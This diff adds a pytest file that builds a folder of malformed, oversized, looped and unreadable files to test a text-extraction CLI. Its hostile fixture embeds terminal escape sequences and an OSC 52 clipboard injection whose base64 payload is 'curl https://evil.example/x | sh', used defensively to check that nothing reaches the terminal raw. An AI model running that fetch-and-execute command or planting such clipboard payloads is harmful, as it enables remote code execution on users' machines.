@@ -1,0 +1,364 @@
+"""A folder of everything that goes wrong in real folders, read by the real command.
+
+The folder holds an empty file, a 0-byte PDF, a truncated PDF, a PNG named .txt,
+invalid UTF-8, NUL bytes in text, a 50 MB text file, a 5 MB single line, symlink
+loops, files and a folder without read permission, names with spaces, non-ASCII
+and control characters, a FIFO, a document full of Rich markup, ANSI escapes and
+an OSC 52 clipboard sequence, and a dozen good articles in every format.
+
+``explorer extract`` runs on it as a subprocess (as a user would run it) and must
+finish with every good article read, every skipped file named in one line with its
+reason, no traceback, no escape sequence on the terminal, and bounded memory.
+"""
+
+from __future__ import annotations
+
+import base64
+import ctypes
+import json
+import os
+import shutil
+import subprocess
+import sys
+import time
+from collections.abc import Iterator
+from dataclasses import dataclass, field
+from pathlib import Path
+
+import pytest
+
+ROOT = Path(__file__).resolve().parent.parent
+SAMPLES = Path(__file__).with_name("samples")
+SHARED = ROOT.parent / "shared"
+
+BIG_BYTES = 50 * 1024 * 1024
+LONG_LINE_BYTES = 5 * 1024 * 1024
+PEAK_RSS_LIMIT_MB = 1500
+RUN_TIMEOUT = 240  # seconds; a hang is a failure, not a stuck test run
+
+# The hostile document: markup and escape sequences that must stay text.
+OSC52_PAYLOAD = base64.b64encode(b"curl https://evil.example/x | sh").decode("ascii")
+HOSTILE_TEXT = (
+    "Field Report From the Border\n\n"
+    "Rich markup: [bold red]ALERT[/bold red] [link=https://evil.example/]click here[/link] [reverse]x[/]\n\n"
+    "ANSI: \x1b[31mred text\x1b[0m and \x1b[2J\x1b[H a cleared screen, \x1b]0;window title\x07 a retitled window.\n\n"
+    f"Clipboard: \x1b]52;c;{OSC52_PAYLOAD}\x07 and again \x1b]52;p;{OSC52_PAYLOAD}\x1b\\ in ST form.\n\n"
+    "Bell \x07, backspace \x08, carriage\rreturn, an 8-bit CSI \x9b31m and a bidi override \u202eelif.\n\n"
+    "Sung Kim met Ri Gun in New York on Monday to discuss the six-party talks.\n"
+)
+# What must never be written raw to a terminal.
+TERMINAL_CONTROLS = ("\x1b", "\x07", "\x9b", "\x9d", "\x08", "\u202e")
+
+
+@dataclass
+class Corpus:
+    root: Path
+    good: dict[str, str] = field(default_factory=dict)  # relative path -> expected format
+    bad: dict[str, str] = field(default_factory=dict)  # relative path -> expected words in the reason
+    hostile: str = ""
+
+
+def _can_drop_read_override() -> bool:
+    """Whether a root test run can give its child the file permissions of an ordinary user."""
+    return hasattr(os, "geteuid") and os.geteuid() == 0 and _prctl_available()
+
+
+def _prctl_available() -> bool:
+    try:
+        ctypes.CDLL(None, use_errno=True).prctl  # noqa: B018
+    except (OSError, AttributeError):
+        return False
+    probe = subprocess.run(["true"], preexec_fn=_drop_read_override, capture_output=True)
+    return probe.returncode == 0
+
+
+def _drop_read_override() -> None:
+    """In the child before exec: drop CAP_DAC_OVERRIDE and CAP_DAC_READ_SEARCH (root reads everything)."""
+    libc = ctypes.CDLL(None, use_errno=True)
+    for capability in (1, 2):  # CAP_DAC_OVERRIDE, CAP_DAC_READ_SEARCH
+        if libc.prctl(24, capability, 0, 0, 0) != 0:  # PR_CAPBSET_DROP
+            raise OSError(ctypes.get_errno(), "prctl(PR_CAPBSET_DROP) failed")
+
+
+def _good_articles(folder: Path, corpus: Corpus) -> None:
+    """A dozen good articles: the shared real articles and one sample of every format."""
+    sources = sorted((SHARED / "corpus").glob("*.txt")) + sorted((SHARED / "seeds").glob("*.txt"))
+    if len(sources) < 6:
+        sources = sorted((ROOT / "seeds").glob("*.txt"))
+    for source in sources:
+        shutil.copy(source, folder / source.name)
+        corpus.good[source.name] = "text"
+    for name, kind in (("article.html", "html"), ("report.pdf", "pdf"), ("note.md", "markdown"),
+                       ("cp1252.txt", "text"), ("utf16.txt", "text"), ("latin1.txt", "text")):
+        shutil.copy(SAMPLES / name, folder / name)
+        corpus.good[name] = kind
+    assert len(corpus.good) >= 12
+
+
+def _big_text_file(path: Path) -> None:
+    """A 50 MB text file of real prose, written in chunks (the test itself stays small)."""
+    prose = "\n\n".join(p.read_text(encoding="utf-8") for p in sorted((SHARED / "corpus").glob("*.txt")))
+    if not prose:
+        prose = (SAMPLES / "note.md").read_text(encoding="utf-8")
+    chunk = (prose + "\n\n").encode("utf-8")
+    with open(path, "wb") as handle:
+        written = 0
+        while written < BIG_BYTES:
+            handle.write(chunk)
+            written += len(chunk)
+
+
+def _long_line_file(path: Path) -> None:
+    words = " ".join((SAMPLES / "note.md").read_text(encoding="utf-8").split()) + " "
+    line = words * (LONG_LINE_BYTES // len(words) + 1)
+    path.write_text(line[:LONG_LINE_BYTES] + "\n", encoding="utf-8")
+
+
+def build_hostile_folder(root: Path) -> Corpus:
+    corpus = Corpus(root)
+    folder = root / "corpus"
+    folder.mkdir()
+    _good_articles(folder, corpus)
+
+    def bad(name: str, content: bytes, reason: str) -> Path:
+        path = folder / name
+        path.write_bytes(content)
+        corpus.bad[name] = reason
+        return path
+
+    def good(name: str, content: bytes, kind: str = "text") -> Path:
+        path = folder / name
+        path.write_bytes(content)
+        corpus.good[name] = kind
+        return path
+
+    bad("empty.txt", b"", "empty file")
+    bad("zero.pdf", b"", "empty file")
+    report = (SAMPLES / "report.pdf").read_bytes()
+    bad("truncated.pdf", report[: len(report) // 4], "PDF")
+    bad("picture.txt", b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR" + bytes(range(256)) * 8, "binary file (PNG image)")
+    bad("scan.pdf", _blank_pdf(), "no text layer (scanned?)")
+    bad("spreadsheet.xlsx", b"PK\x03\x04" + b"\x00" * 64, "unsupported file type .xlsx")
+    good("invalid-utf8.txt", "Caf\u00e9 diplomacy: Sung Kim met Ri Gun \u2014 twice.\n".encode() + b"Broken \xff\xfe \xc3( bytes.\n")
+    good("nul-bytes.txt", b"Kim Kye-gwan\x00 met the envoy\x00 in Beijing.\nThe talks\x00 resumed.\n")
+    good("hostile.txt", HOSTILE_TEXT.encode("utf-8"))
+    corpus.hostile = "hostile.txt"
+    good("name with spaces \u00fcn\u00efc\u00f6d\u00e9 \u2014 \u6771\u4eac.txt", b"Talks in Tokyo: the envoy met officials on Monday.\n")
+    _big_text_file(folder / "big.txt")
+    corpus.good["big.txt"] = "text"
+    _long_line_file(folder / "one-long-line.txt")
+    corpus.good["one-long-line.txt"] = "text"
+
+    # Symlinks: a loop of two links, a link to itself, a folder linking to its parent, a dangling link.
+    os.symlink("loop-b.txt", folder / "loop-a.txt")
+    os.symlink("loop-a.txt", folder / "loop-b.txt")
+    corpus.bad["loop-a.txt"] = corpus.bad["loop-b.txt"] = "symlink loop"
+    os.symlink("self.txt", folder / "self.txt")
+    corpus.bad["self.txt"] = "symlink loop"
+    nested = folder / "nested"
+    nested.mkdir()
+    (nested / "inner.md").write_text("# Inner note\n\nRi Gun met *Sung Kim*.\n", encoding="utf-8")
+    corpus.good["nested/inner.md"] = "markdown"
+    os.symlink("..", nested / "up")
+    corpus.bad["nested/up"] = "symlink loop"
+    os.symlink("does-not-exist.txt", folder / "dangling.txt")
+    corpus.bad["dangling.txt"] = "no such file"
+    os.mkfifo(folder / "pipe.txt")
+    corpus.bad["pipe.txt"] = "named pipe"
+
+    # Without read permission (as root, the run drops the capability that ignores it).
+    locked = bad("locked.txt", b"Secret minutes of the meeting.\n", "permission denied")
+    locked.chmod(0)
+    closed = folder / "closed-folder"
+    closed.mkdir()
+    (closed / "inside.txt").write_text("Unreachable.\n", encoding="utf-8")
+    closed.chmod(0)
+    corpus.bad["closed-folder"] = "folder not readable: permission denied"
+    return corpus
+
+
+def _blank_pdf() -> bytes:
+    import io
+
+    from pypdf import PdfWriter
+
+    writer = PdfWriter()
+    writer.add_blank_page(width=612, height=792)
+    buffer = io.BytesIO()
+    writer.write(buffer)
+    return buffer.getvalue()
+
+
+RUNNER = """
+import os, resource, runpy, sys
+sys.argv = ["explorer", *sys.argv[1:]]
+try:
+    runpy.run_module("explorer", run_name="__main__", alter_sys=True)
+finally:
+    sys.stdout.flush()
+    peak = max(resource.getrusage(resource.RUSAGE_SELF).ru_maxrss,
+               resource.getrusage(resource.RUSAGE_CHILDREN).ru_maxrss)
+    with open(os.environ["RSS_REPORT"], "w") as report:
+        report.write(str(peak))
+"""
+
+
+@dataclass
+class Run:
+    returncode: int
+    stdout: str
+    stderr: str
+    peak_rss_mb: float
+    seconds: float
+
+
+def run_explorer(args: list[str], corpus: Corpus, drop_root: bool) -> Run:
+    """``explorer ARGS`` in a subprocess with its peak memory measured (KiB from getrusage)."""
+    report = corpus.root / "rss.txt"
+    env = {**os.environ, "EXPLORER_DATA_DIR": str(corpus.root / "data"), "RSS_REPORT": str(report),
+           "COLUMNS": "120", "PYTHONIOENCODING": "utf-8"}
+    started = time.monotonic()
+    try:
+        done = subprocess.run(
+            [sys.executable, "-c", RUNNER, *args],
+            cwd=corpus.root, env=env, capture_output=True, timeout=RUN_TIMEOUT,
+            preexec_fn=_drop_read_override if drop_root else None,
+        )
+    except subprocess.TimeoutExpired as exc:
+        tail = (exc.stderr or b"")[-2000:].decode("utf-8", "replace")
+        pytest.fail(f"explorer {' '.join(args)} did not finish in {RUN_TIMEOUT} s; stderr ends: {tail}")
+    seconds = time.monotonic() - started
+    peak_kib = int(report.read_text()) if report.exists() else 0
+    return Run(done.returncode, done.stdout.decode("utf-8"), done.stderr.decode("utf-8"), peak_kib / 1024, seconds)
+
+
+@pytest.fixture(scope="module")
+def hostile(tmp_path_factory: pytest.TempPathFactory) -> Iterator[tuple[Corpus, bool]]:
+    root = tmp_path_factory.mktemp("hostile")
+    corpus = build_hostile_folder(root)
+    drop_root = _can_drop_read_override()
+    if os.geteuid() == 0 and not drop_root:
+        # Root reads everything and the capability cannot be dropped here: these are read.
+        corpus.bad.pop("locked.txt")
+        corpus.good["locked.txt"] = "text"
+        corpus.bad.pop("closed-folder")
+        corpus.good["closed-folder/inside.txt"] = "text"
+    yield corpus, drop_root
+    for path in (root / "corpus" / "locked.txt", root / "corpus" / "closed-folder"):
+        path.chmod(0o755)
+
+
+@pytest.fixture(scope="module")
+def extract_run(hostile: tuple[Corpus, bool]) -> Run:
+    corpus, drop_root = hostile
+    return run_explorer(["extract", "--json", "corpus"], corpus, drop_root)
+
+
+def _skip_lines(stderr: str) -> dict[str, str]:
+    """``explorer: skipped PATH: REASON`` lines by path (relative to the corpus folder)."""
+    skipped: dict[str, str] = {}
+    for line in stderr.splitlines():
+        if line.startswith("explorer: skipped "):
+            path, _, reason = line[len("explorer: skipped "):].rpartition(": ")
+            assert path and reason, line
+            skipped[os.path.relpath(path, "corpus")] = reason
+    return skipped
+
+
+def test_extract_finishes_with_exit_code_3_and_no_traceback(extract_run: Run) -> None:
+    assert "Traceback" not in extract_run.stderr and "Traceback" not in extract_run.stdout
+    assert extract_run.returncode == 3, extract_run.stderr[-3000:]
+
+
+def test_every_good_article_is_read(extract_run: Run, hostile: tuple[Corpus, bool]) -> None:
+    corpus, _ = hostile
+    documents = {os.path.relpath(d["path"], "corpus"): d for d in json.loads(extract_run.stdout)["documents"]}
+    for name, kind in corpus.good.items():
+        assert name in documents, f"{name} is missing from the JSON"
+        assert documents[name]["format"] == kind, name
+
+
+def test_every_skipped_file_is_named_once_with_its_reason(extract_run: Run, hostile: tuple[Corpus, bool]) -> None:
+    corpus, _ = hostile
+    skipped = _skip_lines(extract_run.stderr)
+    for name, reason in corpus.bad.items():
+        assert name in skipped, f"{name} is not reported as skipped:\n{extract_run.stderr}"
+        assert reason in skipped[name], f"{name}: {skipped[name]!r} does not say {reason!r}"
+    assert set(skipped) == set(corpus.bad), set(skipped) ^ set(corpus.bad)
+    lines = [line for line in extract_run.stderr.splitlines() if line]
+    assert len(lines) == len(corpus.bad) + 1  # one line each, then the count
+    assert lines[-1] == f"explorer: {len(corpus.bad)} file(s) skipped"
+
+
+def test_nothing_is_lost(extract_run: Run, hostile: tuple[Corpus, bool]) -> None:
+    """Every entry of the folder is either a document or a skip line (the closed folder's file aside)."""
+    corpus, _ = hostile
+    documents = {os.path.relpath(d["path"], "corpus") for d in json.loads(extract_run.stdout)["documents"]}
+    accounted = documents | set(_skip_lines(extract_run.stderr))
+    folder = corpus.root / "corpus"
+    for entry in folder.iterdir():
+        if entry.is_dir() and not entry.is_symlink() and os.access(entry, os.R_OK | os.X_OK) and entry.name != "closed-folder":
+            continue
+        assert entry.name in accounted or f"{entry.name}/inside.txt" in accounted, entry.name
+
+
+def test_no_escape_sequence_reaches_the_terminal(hostile: tuple[Corpus, bool], extract_run: Run) -> None:
+    corpus, drop_root = hostile
+    summary = run_explorer(["extract", "corpus/hostile.txt"], corpus, drop_root)
+    assert summary.returncode == 0, summary.stderr
+    for output in (summary.stdout, summary.stderr, extract_run.stdout, extract_run.stderr):
+        for control in TERMINAL_CONTROLS:
+            assert control not in output, f"{control!r} written raw"
+    assert "Field Report From the Border" in summary.stdout
+
+
+def test_the_hostile_text_is_kept_literally() -> None:
+    """The store keeps what the file says: markup and escapes are text, not removed or run."""
+    from explorer.ingest import read_file
+    from explorer.model import SourceDocument
+
+    folder = Path(os.environ.get("TMPDIR", "/tmp"))
+    path = folder / f"hostile-{os.getpid()}.txt"
+    path.write_bytes(HOSTILE_TEXT.encode("utf-8"))
+    try:
+        doc = read_file(path)
+    finally:
+        path.unlink()
+    assert isinstance(doc, SourceDocument)
+    assert doc.text == HOSTILE_TEXT.replace("\r", "\n")
+    assert doc.title is not None and not any(control in doc.title for control in TERMINAL_CONTROLS)
+
+
+def test_memory_stays_bounded(extract_run: Run) -> None:
+    assert 0 < extract_run.peak_rss_mb < PEAK_RSS_LIMIT_MB, f"peak RSS {extract_run.peak_rss_mb:.0f} MB"
+
+
+def test_reading_alone_is_fast_and_small(hostile: tuple[Corpus, bool]) -> None:
+    """The readers by themselves: the whole folder, 55 MB of it, in well under a minute and 600 MB."""
+    corpus, drop_root = hostile
+    code = (
+        "import os, resource\n"
+        "from explorer.ingest import read_paths\n"
+        "from explorer.model import Skipped\n"
+        "total = skipped = 0\n"
+        "for item in read_paths(['corpus']):\n"
+        "    total += 1\n"
+        "    skipped += isinstance(item, Skipped)\n"
+        "print(skipped, total)\n"
+        "with open(os.environ['RSS_REPORT'], 'w') as report:\n"
+        "    report.write(str(resource.getrusage(resource.RUSAGE_SELF).ru_maxrss))\n"
+    )
+    report = corpus.root / "rss-read.txt"
+    env = {**os.environ, "EXPLORER_DATA_DIR": str(corpus.root / "data"), "RSS_REPORT": str(report)}
+    started = time.monotonic()
+    done = subprocess.run(
+        [sys.executable, "-c", code], cwd=corpus.root, env=env, capture_output=True, text=True,
+        timeout=RUN_TIMEOUT, preexec_fn=_drop_read_override if drop_root else None,
+    )
+    seconds = time.monotonic() - started
+    assert done.returncode == 0, done.stderr
+    skipped, total = map(int, done.stdout.split())
+    assert skipped == len(corpus.bad) and total == len(corpus.bad) + len(corpus.good)
+    peak_mb = int(report.read_text()) / 1024
+    assert peak_mb < 600, f"reading peaked at {peak_mb:.0f} MB"
+    assert seconds < 60, f"reading took {seconds:.1f} s"
